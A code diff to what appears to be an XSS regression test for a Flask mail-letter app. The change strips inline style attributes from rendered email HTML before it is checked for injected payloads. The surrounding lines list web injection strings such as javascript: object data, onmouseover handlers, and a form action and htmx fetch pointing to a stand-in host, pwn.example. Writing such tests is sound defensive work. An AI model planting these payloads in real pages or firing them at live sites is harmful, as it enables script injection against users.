@@ -36,6 +36,8 @@ THEN = (
     "<form action=//pwn.example><button>x", "<p hx-on:click=pwn() hx-get=//pwn.example>", "onmouseover=pwn() style=pwn:1 x=",
     "<object data=javascript:pwn()>")
 PAYLOADS = [before + then for before, then in product(BEFORE, THEN)]
+STYLED = re.compile(r' style="[\w\s.,:;/#%\'-]+"')
+"""Letters bear their look in attributes: mail programs read no sheet."""
 TOGETHER = 10
 """As many in one box: a page is read for all of them at once."""
 
@@ -95,7 +97,7 @@ def typed_everywhere(payload: str, ana: FlaskClient, claire: FlaskClient, nobody
     with claire.application.app_context(), writing():
         for letter in Letter.select().order_by(Letter.id.desc()).limit(3):
             html = post.compose(letter).get_body(("html",))
-            yield html.get_content() if html is not None else ""
+            yield STYLED.sub("", html.get_content()) if html is not None else ""
 
 
 def active(payloads: list[str], people: Cast, browse: Browse, case: Case) -> tuple[list[str], int]:
